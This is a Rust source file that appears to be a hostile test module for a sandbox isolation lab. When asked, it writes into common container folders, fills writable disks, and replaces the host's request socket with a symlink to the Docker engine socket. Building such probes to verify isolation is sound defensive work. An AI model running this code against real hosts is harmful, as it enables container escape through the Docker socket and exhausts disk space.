//! Looks for a place where it can write, and attacks its host from there: it replaces
//! the socket through which it is asked by a link to the container engine's socket, and
//! fills the disk. It answers what it could write, and has its connection closed, so that
//! the host needs a new one for the next request. `?calm=1` is answered with `calm`.

use isolab_sdk::{Request, Response};

/// Attacks, unless it is to be calm.
pub fn handle(request: &Request<'_>) -> Response {
    if request.query_value("calm").is_some() {
        return Response::text(200, "calm");
    }
    let written = attack();
    let found = if written.is_empty() { "nothing writable".to_owned() } else { written.join("\n") };
    let mut response = Response::text(200, found);
    response.headers.push(("connection".into(), "close".into()));
    response
}

/// A Wasm module has no file system. The standard library's calls would only import
/// functions of WASI that no lab's host gives it.
#[cfg(target_family = "wasm")]
fn attack() -> Vec<String> {
    Vec::new()
}

#[cfg(not(target_family = "wasm"))]
use native::attack;

#[cfg(not(target_family = "wasm"))]
mod native {
    use std::fs::{self, File};
    use std::io::Write;
    use std::os::unix::fs::symlink;
    use std::os::unix::net::UnixListener;
    use std::path::{Path, PathBuf};

    /// Where containers usually have something that can be written.
    const FOLDERS: [&str; 14] = [
        "/",
        "/dev",
        "/dev/mqueue",
        "/dev/pts",
        "/dev/shm",
        "/etc",
        "/home",
        "/proc",
        "/proc/self",
        "/run",
        "/sys",
        "/sys/fs/cgroup",
        "/tmp",
        "/var/tmp",
    ];
    const ENGINE: &str = "/var/run/docker.sock";
    /// Enough to show that nothing bounds a disk, and little enough for the disk of a test.
    const FILL_BYTES: usize = 32 << 20;

    /// Returns a line for each thing that could be written.
    pub(crate) fn attack() -> Vec<String> {
        let socket = std::env::var_os("ISOLAB_SOCKET").map(PathBuf::from);
        let shared = socket.as_ref().and_then(|socket| socket.parent()).map(Path::to_owned);
        let folders = FOLDERS.iter().map(PathBuf::from).chain(shared).chain(std::env::current_dir().ok());
        let mut written: Vec<String> = folders.flat_map(|folder| write_into(&folder)).collect();
        written.extend(socket.and_then(|socket| relink(&socket)));
        written
    }

    /// Every way to make something in a folder.
    fn write_into(folder: &Path) -> Vec<String> {
        let path = folder.join("isolab-relink");
        let own = std::env::current_exe().unwrap_or_else(|_| "/server".into());
        let ways: [(&str, &dyn Fn() -> bool); 5] = [
            ("file", &|| fill(&path)),
            ("folder", &|| fs::create_dir(&path).is_ok()),
            ("symbolic link", &|| symlink(ENGINE, &path).is_ok()),
            ("hard link", &|| fs::hard_link(&own, &path).is_ok()),
            ("socket", &|| UnixListener::bind(&path).is_ok()),
        ];
        let mut written = Vec::new();
        for (kind, make) in ways {
            if make() {
                written.push(format!("{kind} in {}", folder.display()));
            }
            let _ = fs::remove_file(&path).or_else(|_| fs::remove_dir(&path));
        }
        written
    }

    /// Whether a file could be made; it is filled, as far as that goes.
    fn fill(path: &Path) -> bool {
        let Ok(mut file) = File::create(path) else { return false };
        let block = vec![b'x'; 1 << 16];
        let _ = (0..FILL_BYTES / block.len()).try_for_each(|_| file.write_all(&block));
        true
    }

    /// Puts a link to the engine's socket in place of the own one.
    fn relink(socket: &Path) -> Option<String> {
        let is_gone = fs::remove_file(socket).or_else(|_| fs::rename(socket, socket.with_extension("old")));
        is_gone.and_then(|()| symlink(ENGINE, socket)).ok()?;
        Some(format!("{} leads to {ENGINE}", socket.display()))
    }
}

isolab_sdk::export!(handle);
